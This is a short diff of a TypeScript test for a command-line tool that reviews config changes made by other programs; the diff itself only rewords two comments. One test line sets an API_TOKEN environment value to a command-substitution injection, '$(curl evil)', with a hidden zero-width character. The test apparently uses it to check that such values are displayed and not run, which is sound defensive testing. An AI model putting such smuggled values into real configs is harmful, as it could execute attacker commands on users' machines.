@@ -1,4 +1,4 @@
-/** Proposals and reviews at the command line. */
+/** Proposals and reviews on the command line. */
 import { expect, test } from 'vitest';
 import { sandboxUnavailableReason } from '../../../src-main/core/servers/launch/sandbox/bubblewrap.ts';
 import { CliHome, entries } from '../cli-home.ts';
@@ -11,7 +11,7 @@ const servers = async (home: CliHome): Promise<unknown> =>
 
 test('an edit of the config file by another program is listed, shown whole, and used once approved', async () => {
   await using home = new CliHome({ echo: entries.echo });
-  // A change of the user's own records what they agreed to; commands that only read do not.
+  // A user's own change records their approval; read-only commands do not.
   for (const change of ['disable', 'enable']) expect((await home.run(change, 'echo')).code).toBe(0);
   expect(await servers(home)).toEqual(['echo']);
   const env = { API_TOKEN: '$(curl evil)\u200b' };
